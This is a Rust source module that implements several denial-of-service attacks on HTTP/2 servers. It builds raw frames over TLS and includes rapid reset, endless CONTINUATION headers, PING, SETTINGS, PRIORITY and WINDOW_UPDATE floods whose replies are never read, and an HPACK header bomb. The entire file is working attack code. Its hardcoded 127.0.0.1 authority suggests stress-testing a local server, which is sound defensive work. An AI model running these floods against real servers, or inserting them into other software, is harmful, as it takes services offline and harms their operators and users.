//! Attacks by HTTP/2 frames.

use std::time::Instant;

use tokio::io::AsyncWriteExt;

use crate::target::{DURATION, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Frames of one write.
const BATCH: u32 = 1000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET /` with the indexes of HPACK's static table, and an authority.
fn get() -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x84, 0x41, 9];
    block.extend(b"127.0.0.1");
    block
}

/// Sends what `batch` returns, for the number of the batch of a connection, until the attack ends. A new connection
/// replaces one that the server closed. Nothing is read.
async fn flood(target: Target, batch: impl Fn(u32) -> Vec<u8>) {
    let end = Instant::now() + DURATION;
    let (mut connections, mut batches) = (0, 0u64);
    while Instant::now() < end {
        let Ok(mut stream) = target.connect_tls().await else {
            continue;
        };
        connections += 1;
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        for number in 0.. {
            bytes.extend(batch(number));
            let write = tokio::time::timeout_at(end.into(), stream.write_all(&bytes));
            if !matches!(write.await, Ok(Ok(()))) {
                break;
            }
            batches += 1;
            bytes.clear();
        }
    }
    println!("{batches} batches on {connections} connections");
}

/// Requests that are reset at once.
pub(crate) async fn rapid_reset(target: Target) {
    flood(target, |batch| {
        let streams = (0..BATCH).map(|index| 2 * (batch * BATCH + index) + 1);
        let pair = |stream| {
            let mut pair = frame(HEADERS, END_HEADERS | END_STREAM, stream, &get());
            pair.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
            pair
        };
        streams.flat_map(pair).collect()
    })
    .await;
}

/// Headers that do not end.
pub(crate) async fn continuation(target: Target) {
    flood(target, |batch| match batch {
        0 => frame(HEADERS, 0, 1, &get()),
        // A header without an index, of 16 bytes.
        _ => frame(
            CONTINUATION,
            0,
            1,
            &b"\x00\x06x-fill\x071234567".repeat(1000),
        ),
    })
    .await;
}

/// Frames of a kind that need an answer or none.
async fn control(target: Target, frame: Vec<u8>) {
    flood(target, move |_| frame.repeat(BATCH as usize)).await;
}

/// PING frames whose answers are not read.
pub(crate) async fn ping(target: Target) {
    control(target, frame(PING, 0, 0, &[0; 8])).await;
}

/// SETTINGS frames whose answers are not read.
pub(crate) async fn settings(target: Target) {
    control(target, frame(SETTINGS, 0, 0, &[])).await;
}

/// PRIORITY frames of a stream.
pub(crate) async fn priority(target: Target) {
    control(target, frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])).await;
}

/// WINDOW_UPDATE frames of the connection.
pub(crate) async fn window_update(target: Target) {
    control(target, frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())).await;
}

/// Requests with a header of 4 kB from the dynamic table, 3,900 times.
pub(crate) async fn header_bomb(target: Target) {
    flood(target, |batch| {
        let mut block = get();
        if batch == 0 {
            // The name of one byte and the value of 4,000 enter the table.
            block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
            block.extend([b'a'; 4000]);
        }
        block.extend([0xbe; 3900]);
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * batch + 1, &block)
    })
    .await;
}
